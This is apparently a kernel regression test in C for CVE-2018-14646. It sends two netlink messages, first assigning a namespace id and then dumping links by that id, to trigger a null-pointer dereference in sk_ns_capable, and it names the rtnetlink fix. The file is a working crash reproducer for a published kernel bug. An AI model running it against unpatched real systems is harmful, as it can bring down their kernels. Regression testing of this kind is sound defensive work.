/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/link-netns.c - CVE-2018-14646
 * fix: rtnetlink: give a user socket to get_target_net()
 * expected: KASAN: null-ptr-deref in sk_ns_capable
 * All interfaces of a network namespace that has a number: this one. */
#include <linux/if_link.h>
#include <linux/net_namespace.h>
#include <linux/rtnetlink.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct {
		struct nlmsghdr head;
		struct rtgenmsg family __attribute__((aligned(4)));
		struct rtattr number __attribute__((aligned(4)));
		int id;
		struct rtattr process;
		int pid;
	} name = {
		.head = {
			.nlmsg_len = sizeof(name),
			.nlmsg_type = RTM_NEWNSID,
			.nlmsg_flags = NLM_F_REQUEST,
		},
		.number = { .rta_len = RTA_LENGTH(sizeof(int)), .rta_type = NETNSA_NSID },
		.id = 7,
		.process = { .rta_len = RTA_LENGTH(sizeof(int)), .rta_type = NETNSA_PID },
		.pid = getpid(),
	};
	struct {
		struct nlmsghdr head;
		struct ifinfomsg link;
		struct rtattr number;
		int id;
	} list = {
		.head = {
			.nlmsg_len = sizeof(list),
			.nlmsg_type = RTM_GETLINK,
			.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP,
		},
		.number = { .rta_len = RTA_LENGTH(sizeof(int)), .rta_type = IFLA_IF_NETNSID },
		.id = 7,
	};
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

	send(fd, &name, sizeof(name), 0);
	return send(fd, &list, sizeof(list), 0) < 0;
}
